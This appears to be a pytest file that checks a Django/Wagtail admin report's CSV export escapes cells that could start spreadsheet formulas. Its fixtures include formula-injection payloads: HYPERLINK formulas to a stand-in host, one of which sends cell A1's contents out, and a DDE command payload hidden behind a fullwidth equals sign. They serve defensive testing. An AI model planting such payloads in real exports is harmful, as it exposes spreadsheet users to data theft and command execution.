"""The download report's CSV: no cell, in any column, is something a spreadsheet program would run."""

import csv
import io

import pytest
from django.utils import timezone
from wagtail.models import Collection

from editorial.models import DocumentDownloadCount
from portal.reports import spreadsheet_safe
from tests.helpers import user_in
from tests.publications.factories import PolicyDocumentFactory

REPORT = "/admin/reports/most-downloaded-files/"


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("https://evil.example","x")', " =1+1", "\u3000=1+1", "\uff1d1+1", "\uff0bcmd", "\t=1", "@SUM(A1)"],
)
def test_a_cell_that_could_start_a_formula_is_kept_as_text(title):
    assert spreadsheet_safe(title) == "'" + title


@pytest.mark.parametrize("value", ["Annual report", "Report - 2026", "a=b", 5, 0])
def test_ordinary_text_and_numbers_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_every_column_of_the_csv_is_neutralised_the_collection_included(client, django_user_model, home):
    root = Collection.get_first_root_node()
    hostile = root.add_child(name='=HYPERLINK("https://evil.example/?"&A1,"Open")')
    document = PolicyDocumentFactory(title="\uff1dcmd|' /C calc'!A0", file_name="slides.pdf")
    document.collection = hostile
    document.save()
    DocumentDownloadCount.objects.create(document=document, day=timezone.localdate(), count=3)
    client.force_login(user_in(django_user_model, "News editors"))

    response = client.get(REPORT, {"export": "csv"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1] == [
        "'\uff1dcmd|' /C calc'!A0",
        "slides.pdf",
        "3",
        '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
    ]
